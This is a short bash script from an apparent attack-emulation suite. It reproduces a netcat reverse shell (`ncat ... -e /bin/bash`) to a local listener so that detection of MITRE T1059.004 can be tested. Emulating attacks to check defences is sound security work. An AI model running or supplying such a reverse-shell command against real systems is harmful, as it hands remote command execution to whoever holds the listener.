#!/bin/bash
# vigil-emulation: attack
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: execution, command-and-control
# what: `ncat 127.0.0.1 PORT -e /bin/bash`: netcat connects to a listener the scenario runs
#   and executes bash with its stdin and stdout on the connection; the listener runs
#   `id`, `cat /etc/hostname`, `uname -a`.
# report: a reverse shell: bash whose stdin and stdout are a TCP socket to 127.0.0.1:PORT,
#   executed by ncat -e.
# expect: reverse shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need ncat

emul_server shell --commands "id;cat /etc/hostname;uname -a"
listener=$EMUL_BG_PID
timeout 30 ncat 127.0.0.1 "$EMUL_PORT" -e /bin/bash || true
wait "$listener"
